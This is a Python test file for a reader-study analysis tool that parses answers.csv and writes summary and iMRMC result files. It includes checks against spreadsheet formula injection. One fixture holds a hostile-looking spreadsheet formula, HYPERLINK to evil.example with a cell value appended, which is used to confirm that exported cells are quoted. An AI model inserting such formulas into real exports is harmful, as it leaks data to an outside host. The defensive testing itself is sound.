"""answers.csv in, result files out: the formats of analysis.md and clear errors naming the line."""

import csv
import io
import subprocess
import sys

import numpy as np
import pytest

from analysis.cells import text_cell, text_from_cell
from analysis.files import cell, imrmc_csv, imrmc_names, result_files, summary_csv
from analysis.reads import (
    ANSWER_COLUMNS,
    WRITTEN_COLUMNS,
    AnswersError,
    ReadsBuilder,
    answers_csv_chunks,
    read_answers,
    region_columns,
)
from analysis.summary import summarize
from tests.analysis.reads_fixtures import answer_dicts, formula_cells, make_reads
from tests.analysis.test_summary import HAND


def answers_text(rows) -> str:
    return "".join(answers_csv_chunks(answer_dicts(rows)))


def parse(text: str):
    return read_answers(io.StringIO(text))


def test_written_answers_read_back_as_the_same_reads():
    rows = HAND + [("A", "r1", "", "fake", None, True, 3.25)]
    text = answers_text(rows)
    assert text.splitlines()[0] == ",".join(WRITTEN_COLUMNS)
    back, direct = parse(text), make_reads(rows)
    for name in ("readers", "images", "models"):
        assert getattr(back, name) == getattr(direct, name)
    for name in ("image_model", "reader", "image", "label", "confidence", "seconds", "repeat"):
        assert np.array_equal(getattr(back, name), getattr(direct, name))


def test_the_order_of_lines_and_columns_does_not_change_the_figures():
    text = answers_text(HAND)
    header, *lines = text.splitlines()
    shuffled = [lines[i] for i in np.random.default_rng(0).permutation(len(lines))]
    columns = header.split(",")
    swapped = io.StringIO()
    writer = csv.writer(swapped, lineterminator="\n")
    for line in csv.reader([header, *shuffled]):
        writer.writerow(line[::-1])
    assert columns[::-1] == next(csv.reader([swapped.getvalue().splitlines()[0]]))
    a = summary_csv(summarize(parse(text), replicates=100))
    b = summary_csv(summarize(parse(swapped.getvalue()), replicates=100))
    assert a == b


def bad(text: str) -> str:
    with pytest.raises(AnswersError) as error:
        parse(text)
    return str(error.value)


def replace_field(text: str, line: int, column: str, value: str) -> str:
    lines = list(csv.reader(io.StringIO(text)))
    lines[line - 1][ANSWER_COLUMNS.index(column)] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(lines)
    return out.getvalue()


def test_a_missing_column_is_named():
    text = answers_text(HAND).replace("confidence,", "", 1)
    assert "line 1: the header lacks the column confidence" in bad(text)


@pytest.mark.parametrize(
    "column, value, message",
    [
        ("label", "maybe", "line 4: unknown label 'maybe' (real, fake or unsure)"),
        ("confidence", "7", "line 4: confidence 7 is outside 1..5"),
        ("confidence", "high", "line 4: confidence 'high' is not a whole number from 1 to 5"),
        ("truth", "synthetic", "line 4: unknown truth 'synthetic' (real or fake)"),
        ("seconds", "-1", "line 4: seconds -1.0 is not a viewing time"),
        ("seconds", "soon", "line 4: seconds 'soon' is not a number"),
        ("is_repeat", "perhaps", "line 4: is_repeat 'perhaps' is not true or false"),
        ("study", "9", "line 4: study '9', but the file began with study '1'"),
        ("reader", "", "line 4: the reader is empty"),
        ("model", "", "line 5: a fake image needs the name of its model"),
    ],
)
def test_a_bad_value_is_named_with_its_line(column, value, message):
    line = 5 if column == "model" else 4  # line 5 holds a fake image
    assert message in bad(replace_field(answers_text(HAND), line, column, value))


def test_every_bad_line_is_named_not_only_the_first():
    text = answers_text(HAND)
    text = replace_field(replace_field(text, 3, "label", "x"), 8, "label", "y")
    message = bad(text)
    assert "line 3: unknown label 'x'" in message and "line 8: unknown label 'y'" in message


def test_every_problem_of_a_line_is_named_and_problems_come_in_line_order():
    text = answers_text(HAND + [("A", "r1", "", "real")])  # line 14: a second first read
    text = replace_field(replace_field(text, 3, "is_repeat", "no"), 3, "label", "Fake")
    text = replace_field(text, 5, "seconds", "x")
    text = replace_field(text, 5, "confidence", "high")
    problems = bad(text).splitlines()
    assert problems == [
        "line 3: is_repeat 'no' is not true or false",
        "line 3: unknown label 'Fake' (real, fake or unsure)",
        "line 5: confidence 'high' is not a whole number from 1 to 5",
        "line 5: seconds 'x' is not a number",
        "line 14: A reads image r1 a second time without is_repeat",
    ]


def test_inconsistent_reads_are_refused():
    twice = answers_text(HAND + [("A", "r1", "", "fake")])
    assert "line 14: A reads image r1 a second time without is_repeat" in bad(twice)
    moved = answers_text(HAND + [("C", "f1", "m2", "fake")])
    assert "line 14: image f1 is an image of model 'm2', but an image of model 'm1' on line 5" in bad(moved)
    mixed = replace_field(answers_text(HAND), 2, "confidence", "3")
    assert "the fakeness score needs a confidence on every read or on none" in bad(mixed)
    named = answers_text([("A", "x", "all", "fake")])
    assert "line 2: a model may not be called 'all'" in bad(named)


def test_a_file_that_is_not_answers_csv(tmp_path):
    assert "the file is empty" in bad("")
    assert "fields where the header has 20" in bad(answers_text(HAND) + "1,A,x\n")
    binary = tmp_path / "answers.csv"
    binary.write_bytes(b"\xff\xfe\x00junk")
    with pytest.raises(AnswersError, match="not UTF-8"):
        read_answers(binary)


def test_cells_are_empty_when_undefined_and_floats_have_six_digits():
    assert [cell(None), cell(1 / 3), cell(7), cell(float("nan")), cell(1e-70 / 3)] == [
        "",
        "0.333333",
        "7",
        "",
        "3.33333e-71",
    ]


def test_text_that_a_spreadsheet_would_run_is_quoted_and_numbers_are_not():
    assert [cell("=1+1"), cell("-x"), cell("@SUM(A1)"), cell("\tx"), cell("R001"), cell(-0.12), cell(-3)] == [
        "'=1+1",
        "'-x",
        "'@SUM(A1)",
        "'\tx",
        "R001",
        "-0.12",
        "-3",
    ]


@pytest.mark.parametrize("text", ["=1+1", "'=1+1", "''+x", "'plain", "O'Brien", "-", "", "\rx", "a=b"])
def test_every_text_reads_back_from_its_cell_as_it_was(text):
    assert text_from_cell(text_cell(text)) == text


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
HOSTILE_ROWS = [(reader, image, HOSTILE if m == "m1" else m, label) for reader, image, m, label in HAND]


def test_no_written_cell_is_a_formula_whatever_the_model_is_called():
    rows = [(reader, "@" + image, model, label) for reader, image, model, label in HOSTILE_ROWS]
    text = answers_text(rows)
    assert formula_cells(text) == []
    reads = parse(text)
    assert HOSTILE in reads.models and reads.images[0].startswith("@")
    files = result_files(reads, summarize(reads, replicates=10))
    assert "imrmc_HYPERLINK_http_evil.example_A1_open.csv" in files
    for name, written in files.items():
        assert formula_cells(written) == [], name
    assert ["'" + HOSTILE, "all"] in [row[:2] for row in csv.reader(io.StringIO(files["summary.csv"]))]


def test_answers_with_quoted_names_give_the_figures_of_the_names_themselves():
    direct = make_reads(HOSTILE_ROWS)
    back = parse(answers_text(HOSTILE_ROWS))
    assert back.models == direct.models == sorted(["m2", HOSTILE])
    assert result_files(back, summarize(back, replicates=50)) == result_files(
        direct, summarize(direct, replicates=50)
    )


def test_imrmc_files_are_in_the_input_format_of_imrmc():
    reads = make_reads(HAND)
    text = imrmc_csv(reads, "m1")
    head, data = text.split("BEGIN DATA:\n")
    assert "NR: 2" in head and "N0: 3" in head and "N1: 2" in head and "NM: 1" in head
    lines = data.splitlines()
    truth = [line for line in lines if line.startswith("-1,")]
    assert sorted(truth) == ["-1,f1,0,1", "-1,f2,0,1", "-1,r1,0,0", "-1,r2,0,0", "-1,r3,0,0"]
    scores = {tuple(line.split(",")[:3]): line.split(",")[3] for line in lines if not line.startswith("-1,")}
    assert len(scores) == 10  # 2 readers x (3 real + 2 of m1); m2's image is not in this arm
    assert scores[("A", "r3", "m1")] == "1" and scores[("A", "f2", "m1")] == "0"
    assert scores[("B", "r2", "m1")] == "0.5"


def test_result_files_are_named_after_the_arms():
    assert imrmc_names(["cxr sd/v1", "cxr_sd_v1", "b", "ALL"]) == {
        "cxr sd/v1": "imrmc_cxr_sd_v1.csv",
        "cxr_sd_v1": "imrmc_cxr_sd_v1_2.csv",
        "b": "imrmc_b.csv",
        "ALL": "imrmc_ALL_2.csv",  # imrmc_all.csv holds every arm
    }
    reads = make_reads(HAND)
    files = result_files(reads, summarize(reads, replicates=10))
    assert list(files) == [
        "summary.csv",
        "cohen_kappa.csv",
        "arm_comparisons.csv",
        "imrmc_m1.csv",
        "imrmc_m2.csv",
        "imrmc_all.csv",
    ]


def test_python_m_analysis_writes_the_files_and_refuses_a_bad_csv(tmp_path):
    answers = tmp_path / "answers.csv"
    answers.write_text(answers_text(HAND))
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "analysis",
            str(answers),
            "--out",
            str(tmp_path / "out"),
            "--bootstrap",
            "100",
        ],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == [
        "arm_comparisons.csv",
        "cohen_kappa.csv",
        "imrmc_all.csv",
        "imrmc_m1.csv",
        "imrmc_m2.csv",
        "summary.csv",
    ]
    expected = summary_csv(summarize(make_reads(HAND), replicates=100))
    assert (tmp_path / "out" / "summary.csv").read_text() == expected

    answers.write_text(replace_field(answers_text(HAND), 6, "label", "dunno"))
    refused = subprocess.run(
        [sys.executable, "-m", "analysis", str(answers), "--out", str(tmp_path / "out2")],
        capture_output=True,
        text=True,
    )
    assert refused.returncode == 1
    assert "line 6: unknown label 'dunno'" in refused.stderr and "Traceback" not in refused.stderr
    assert not (tmp_path / "out2").exists()


def test_the_analysis_imports_no_django():
    code = "import sys, analysis.cli, analysis.summary, analysis.files; print('django' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False"


def test_a_file_written_before_the_reason_columns_reads_the_same():
    """answers.csv gained `reasons` and `reason_text` (issue 15); a file without them still reads."""
    text = answers_text(HAND)
    old = io.StringIO()
    csv.writer(old, lineterminator="\n").writerows(
        line[: len(ANSWER_COLUMNS)] for line in csv.reader(io.StringIO(text))
    )
    assert old.getvalue().splitlines()[0] == ",".join(ANSWER_COLUMNS)
    a = summary_csv(summarize(parse(text), replicates=100))
    b = summary_csv(summarize(parse(old.getvalue()), replicates=100))
    assert a == b


def test_reasons_are_written_joined_and_never_as_a_formula():
    rows = answer_dicts(HAND[:2])
    rows[0]["reasons"], rows[0]["reason_text"] = ["Bones", "Texture or noise"], "=HYPERLINK(1)"
    lines = list(csv.reader(io.StringIO("".join(answers_csv_chunks(rows)))))
    at = slice(WRITTEN_COLUMNS.index("reasons"), WRITTEN_COLUMNS.index("reason_text") + 1)
    assert lines[1][at] == ["Bones;Texture or noise", "'=HYPERLINK(1)"]
    assert lines[2][at] == ["", ""]


def test_regions_and_reasons_go_through_answers_csv_and_old_files_still_read():
    rows = answer_dicts(HAND[:4])
    rows[0] |= {"reasons": ["Bones", "Texture or noise"]} | region_columns(
        {"kind": "point", "x0": 10, "y0": 20, "x1": 10, "y1": 20, "size": 100}
    )
    rows[1] |= {"reasons": ["Texture or noise"]} | region_columns(
        {"kind": "box", "x0": 0, "y0": 50, "x1": 49, "y1": 99, "size": 100}
    )
    text = "".join(answers_csv_chunks(rows))
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[0][-6:] == ["region", "region_x0", "region_y0", "region_x1", "region_y1", "image_size"]
    assert lines[1][-6:] == ["point", "10", "20", "10", "20", "100"]
    assert lines[3][-6:] == [""] * 6
    reads = read_answers(io.StringIO(text))
    assert reads.reason_names == ["Bones", "Texture or noise"]
    assert list(reads.reasons) == [0b11, 0b10, 0, 0]  # reads keep the file's order
    assert reads.region[:2].tolist() == [[10, 20, 10, 20, 100, 0], [0, 50, 49, 99, 100, 1]]
    assert (reads.region[2:] == -1).all()
    # The same reads from the database's rows (dicts) and from the file.
    builder = ReadsBuilder()
    for line, row in enumerate(rows, start=2):
        builder.add_row(line, row)
    again = builder.build()
    assert np.array_equal(again.reasons, reads.reasons)
    assert np.array_equal(again.region, reads.region)
    # A file written before issue 15 has none of these columns and reads as it did.
    old = "\n".join(",".join(line[: len(ANSWER_COLUMNS)]) for line in lines) + "\n"
    before = read_answers(io.StringIO(old))
    assert before.reason_names == [] and before.region is None and not before.reasons.any()


@pytest.mark.parametrize(
    "cells, problem",
    [
        (["circle", "1", "1", "1", "1", "10"], "unknown region 'circle'"),
        (["box", "5", "5", "10", "6", "10"], "are not all pixels from 0 to 9"),
        (["box", "5", "5", "4", "6", "10"], "x0 <= x1 and y0 <= y1"),
        (["point", "5", "5", "6", "6", "10"], "a point's two corners differ"),
        (["point", "5", "5", "5", "5", ""], "image_size '' is not a side in pixels"),
    ],
)
def test_a_bad_region_is_named_with_its_line(cells, problem):
    lines = list(csv.reader(io.StringIO("".join(answers_csv_chunks(answer_dicts(HAND[:3]))))))
    lines[2][-6:] = cells
    text = "\n".join(",".join(line) for line in lines) + "\n"
    with pytest.raises(AnswersError, match=f"line 3: .*{problem}"):
        read_answers(io.StringIO(text))
